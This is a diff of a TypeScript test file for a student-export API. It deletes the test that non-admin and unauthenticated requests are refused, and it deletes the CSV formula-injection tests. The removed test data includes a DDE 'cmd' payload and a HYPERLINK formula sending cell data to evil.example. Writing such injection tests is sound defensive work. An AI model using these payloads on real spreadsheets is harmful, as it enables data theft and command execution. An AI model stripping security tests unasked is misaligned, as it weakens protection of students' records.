@@ -2,16 +2,11 @@ import Papa from "papaparse";
 import { beforeAll, describe, expect, test } from "vitest";
 import { caller, expectRefusal, logged } from "../support/call";
 import { sql } from "../support/database";
-import { adult, newPhone, staffMember, staffToken, student, tokenOf } from "./fixtures";
+import { newPhone, staffMember, student, tokenOf } from "./fixtures";
 
 const at = "/api/v1/students";
 const { GET } = await import("@/app/api/v1/students/[[...call]]/route");
 const refused = caller({ GET }, "GET", `${at}/export`);
-const register = caller(
-  await import("@/app/api/v1/students/[[...call]]/route"),
-  "POST",
-  `${at}/register-student`,
-);
 
 const HEADER = [
   "Full Name",
@@ -182,15 +177,6 @@ describe("GET students/export", () => {
     }
   });
 
-  test("401 without a token, 403 for roles but admin; neither is recorded as an export", async () => {
-    const before = await sql`select count(*)::int as lines from audit_log`;
-    const query = { createdFrom: today, createdTo: today };
-    expectRefusal(await refused({ query }), 401, "identity_required");
-    for (const role of ["tutor", "cashier", "finance"] as const)
-      expectRefusal(await refused({ token: await staffToken(role), query }), 403, "not_allowed");
-    expect(await sql`select count(*)::int as lines from audit_log`).toEqual(before);
-  });
-
   test("the audit log records who exported which dates; the log records no contents", async () => {
     const someone = await student({ full_name: "Unlogged Person" });
     await download("2026-02-14", today);
@@ -203,79 +189,5 @@ describe("GET students/export", () => {
     });
     const text = logged.join("");
     for (const word of ["Unlogged", someone.msisdn]) expect(text).not.toContain(word);
-  });
-});
-
-const SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠"];
-const PAYLOADS = [
-  ...SIGNS.map((sign) => `${sign}1+1`),
-  ...SIGNS.map((sign) => `  ${sign}cmd|' /C calc'!A0`),
-  ...SIGNS.map((sign) => `${sign}HYPERLINK("http://evil.example?x="&A1,"click")`),
-  ...SIGNS.map((sign) => `\t${sign}SUM(1,1)`),
-  "\t1",
-  "\r1",
-  "\n1",
-  "\n=1+1",
-  "\r\n@x",
-  "=1,2;3\t4",
-  '="quoted"',
-  "'=already",
-  "-",
-];
-const isSafe = (cell: string) =>
-  cell === "" ||
-  // A phone, which a spreadsheet reads as a number.
-  /^\+254\d{9}$/.test(cell) ||
-  (!/^[=+\-@＝＋－＠\t\r\n]/.test(cell.trimStart() === cell ? cell : `${cell[0]}`) &&
-    !/^\s*[=+\-@＝＋－＠]/.test(cell));
-
-describe("a cell of the export", () => {
-  test("is never a formula, whatever a column holds", async () => {
-    const columns = [
-      "full_name",
-      "residence",
-      "guardian_name",
-      "guardian_id_no",
-      "guardian_msisdn",
-      "id_number",
-      "email",
-    ];
-    const sent = new Map<string, string>();
-    for (const payload of PAYLOADS)
-      sent.set(await insert(Object.fromEntries(columns.map((column) => [column, payload]))), payload);
-    const checked = [0, 9, 6, 7, 8, 3, 5];
-    const lines = await download();
-    let seen = 0;
-    for (const line of lines) {
-      const payload = sent.get(line[2] ?? "");
-      if (payload === undefined) continue;
-      seen += 1;
-      for (const index of checked) {
-        const cell = line[index] ?? "";
-        expect(isSafe(cell), JSON.stringify([HEADER[index], cell])).toBe(true);
-        // Only a leading apostrophe is added.
-        expect([payload, `'${payload}`]).toContain(cell);
-      }
-    }
-    expect(seen).toBe(PAYLOADS.length);
-  });
-
-  test("is never a formula entered in the registration form", async () => {
-    const numbers: unknown[] = [];
-    for (const payload of PAYLOADS) {
-      const json = { ...adult({ full_name: `${payload}x`, residence: payload }) };
-      const answer = await register({ token, json });
-      expect([200, 201, 400], answer.text).toContain(answer.status);
-      if (answer.status === 201) numbers.push(answer.body.data.registration_no);
-    }
-    expect(numbers.length).toBeGreaterThan(30);
-    const lines = (await download()).filter((line) => numbers.includes(line[2] ?? ""));
-    expect(lines).toHaveLength(numbers.length);
-    for (const cell of lines.flat()) expect(isSafe(cell), JSON.stringify(cell)).toBe(true);
-  });
-
-  test("writes phones with their plus, as the list does", async () => {
-    const phones = (await download()).slice(1).map((line) => line[1]);
-    expect(phones.every((phone) => /^\+254[17]\d{8}$/.test(phone ?? ""))).toBe(true);
   });
 });
